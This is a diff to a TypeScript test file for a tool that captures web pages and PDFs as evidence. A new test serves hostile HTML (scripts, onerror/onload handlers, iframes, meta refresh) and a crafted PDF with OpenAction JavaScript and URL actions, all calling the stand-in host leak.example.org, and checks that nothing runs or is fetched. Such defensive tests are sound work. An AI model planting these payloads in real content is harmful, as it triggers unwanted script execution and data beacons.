@@ -1,4 +1,4 @@
-import { cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
+import { cpSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
 import type { IncomingMessage, ServerResponse } from 'node:http'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
@@ -59,8 +59,7 @@ beforeEach(() => {
   rmSync(folder || join(tmpdir(), 'parley-none'), { recursive: true, force: true })
   folder = mkdtempSync(join(tmpdir(), 'parley-evidence-'))
   const fixture = fileURLToPath(new URL('../../src/tests/fixtures/every-field/', import.meta.url))
-  cpSync(join(fixture, 'site.yaml'), join(folder, 'site.yaml'))
-  cpSync(join(fixture, 'boat.svg'), join(folder, 'boat.svg'))
+  writeFileSync(join(folder, 'site.yaml'), SITE)
   cpSync(join(fixture, 'lighthouse'), join(folder, 'talks'), { recursive: true })
   rmSync(join(folder, 'talks/positions'), { recursive: true })
   rmSync(join(folder, 'talks/sources'), { recursive: true })
@@ -68,6 +67,9 @@ beforeEach(() => {
   asked = []
 })
 afterAll(() => rmSync(folder, { recursive: true, force: true }))
+
+/** The settings of a site with as little in it as there can be. */
+const SITE = `title: T\ntagline: "Who said what."\nurl: "https://talks.example.org"\nlicence: {name: "CC0", url: "https://example.org/cc0"}\n`
 
 /** A source under this address from which one position quotes these words. */
 function source(name: string, url: string, words = WORDS, lang = 'en') {
@@ -296,6 +298,58 @@ test('a hostile page does nothing, be it by its size, its depth or its words', a
     ['words', 'exact'],
   ])
   expect((await readContent(folder)).problems.filter(({ severity }) => severity === 'error')).toEqual([])
+})
+
+/** A PDF that would run a script, open a page and fetch files, if whoever reads it did as it says. */
+function actingPdf(): Buffer {
+  const acts = [
+    '/OpenAction<</S/JavaScript/JS(globalThis.parleyWasRun=1;process.exit\\(9\\))>>',
+    '/AA<</WC<</S/URI/URI(http://leak.example.org/pdf-uri)>>>>',
+    '/Names<</EmbeddedFiles<</Names[(a)<</F<</FS/URL/F(http://leak.example.org/pdf-file)>>>>]>>>>',
+  ].join('')
+  return Buffer.from(
+    smallPdf([`They wrote: ${WORDS}.`])
+      .toString('latin1')
+      .replace('<</Type/Catalog', `<</Type/Catalog${acts}`),
+    'latin1',
+  )
+}
+
+test('nothing of a page is run, loaded or followed, in HTML and in PDF', async () => {
+  const run = `globalThis.parleyWasRun = 1; fetch('http://leak.example.org/fetch'); process.exit(9)`
+  const leak = 'http://leak.example.org'
+  pages['a.example.org/acts'] = html(
+    `<script>${run}</script><script src="${leak}/script"></script><script type="module">import '${leak}/module'</script>
+     <img src="${leak}/img" onerror="${run}"><svg onload="${run}"><image href="${leak}/svg"/></svg><body onload="${run}">
+     <iframe src="${leak}/frame"></iframe><iframe srcdoc="<script>parent.parleyWasRun=1</script>"></iframe>
+     <object data="${leak}/object"></object><embed src="${leak}/embed"><video src="${leak}/video" autoplay></video>
+     <form action="${leak}/form"><input autofocus onfocus="${run}"></form><a href="${leak}/link" ping="${leak}/ping">x</a>
+     <style>@import '${leak}/style'; p { background: url('${leak}/background') }</style>
+     <p>The keeper said: “${WORDS}”.</p><p>${MORE}</p>`,
+    `<meta http-equiv="refresh" content="0;url=${leak}/refresh"><base href="${leak}/"><link rel="stylesheet" href="sheet">
+     <link rel="preload" as="script" href="${leak}/preload"><link rel="dns-prefetch" href="${leak}">`,
+  )
+  pages['b.example.org/acts.pdf'] = (response) => response.end(actingPdf())
+  source('html', 'http://a.example.org/acts')
+  source('pdf', 'http://b.example.org/acts.pdf')
+  const before = new Set(readdirSync(folder, { recursive: true, encoding: 'utf8' }))
+  const captured = await capture('2025-02-01', { time: 5_000, size: 2_000_000 })
+  expect([...captured].map(([name, { quotations }]) => [name, quotations[0]?.found])).toEqual([
+    ['html', 'exact'],
+    ['pdf', 'exact'],
+  ])
+  // What a page did after it was read would show by now.
+  await new Promise((resolve) => setTimeout(resolve, 300))
+  expect(asked.toSorted()).toEqual(
+    ['a', 'b'].flatMap((host) => [
+      `${host}.example.org/${host === 'a' ? 'acts' : 'acts.pdf'}`,
+      `${host}.example.org/robots.txt`,
+    ]),
+  )
+  expect('parleyWasRun' in globalThis).toBe(false)
+  const written = readdirSync(folder, { recursive: true, encoding: 'utf8' }).filter((file) => !before.has(file))
+  expect(written.toSorted()).toEqual(['talks/evidence', 'talks/evidence/html.yaml', 'talks/evidence/pdf.yaml'])
+  for (const name of ['html', 'pdf']) expect(evidence(name)).not.toMatch(/leak|script|parleyWasRun/)
 })
 
 test('never writes over evidence that cannot be read, and takes a copy of the public archive down if it is asked to', async () => {
